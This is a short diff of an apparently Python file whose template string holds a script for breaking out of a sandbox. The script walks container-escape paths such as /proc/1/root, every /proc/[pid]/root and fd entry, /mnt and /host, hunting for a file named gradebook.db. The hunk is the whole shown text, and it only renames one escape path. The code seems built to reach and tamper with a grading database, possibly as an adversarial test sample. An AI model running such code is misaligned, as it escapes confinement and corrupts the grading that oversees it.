@@ -20,7 +20,7 @@ GOES_FOR_EVERYTHING = """
 import glob, os, shutil, sqlite3, subprocess
 places = {places!r}
 guesses = ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "sqlite:///gradebook.db"]
-doors = ["", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/self/cwd/..", "/course-room/..", "/mnt", "/host"]
+doors = ["", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/self/cwd/..", "/course-sandbox/..", "/mnt", "/host"]
 doors += glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*")
 for path in [door + place for door in doors for place in places] + guesses:
     try:
